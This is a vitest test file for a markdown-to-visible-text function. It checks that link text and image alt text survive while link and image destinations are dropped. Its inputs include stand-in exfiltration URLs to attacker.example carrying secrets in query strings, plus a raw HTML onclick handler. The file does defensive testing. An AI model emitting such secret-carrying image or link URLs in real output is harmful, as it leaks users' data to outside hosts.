import { describe, expect, it } from 'vitest';
import { markdownVisibleText } from './visible-text.js';

describe('markdownVisibleText', () => {
  it('keeps link text, image alt text and nothing of their destinations or definitions', () => {
    const text = markdownVisibleText(
      'Please [confirm your account](https://attacker.example/c?d=SECRET1) at [erp][e] or <https://erp.example/x>.\n\n![status](https://attacker.example/p.png?d=SECRET2)\n\n![chart][c]\n\n[c]: https://attacker.example/r.png?d=SECRET3\n[e]: https://attacker.example/e?d=SECRET4 "title"\n',
    );
    expect(text).toBe('Please confirm your account at erp or https://erp.example/x.\n\nstatus\n\nchart');
  });

  it('keeps the layout: headings, list markers, nested lists, quotes, fenced code and table rows', () => {
    const source = [
      '## Steps',
      '',
      '1. Open **[the order](https://a.example/?d=X)**',
      '2. Check `PO_1234`',
      '   - [x] approved',
      '   - [ ] shipped',
      '',
      '> quoted *text*',
      '',
      '```sql',
      'SELECT 1 -- [x](https://a.example/)',
      '```',
      '',
      '| PO | link |',
      '| --- | --- |',
      '| 7 | [open](https://a.example/7) |',
      '',
      '<b onclick="x()">raw</b>',
    ].join('\n');
    expect(markdownVisibleText(source)).toBe(
      [
        '## Steps',
        '',
        '1. Open **the order**',
        '2. Check `PO_1234`',
        '   - [x] approved',
        '   - [ ] shipped',
        '',
        '> quoted *text*',
        '',
        '```sql',
        'SELECT 1 -- [x](https://a.example/)',
        '```',
        '',
        '| PO | link |',
        '| --- | --- |',
        '| 7 | open |',
        '',
        '<b onclick="x()">raw</b>',
      ].join('\n'),
    );
  });
});
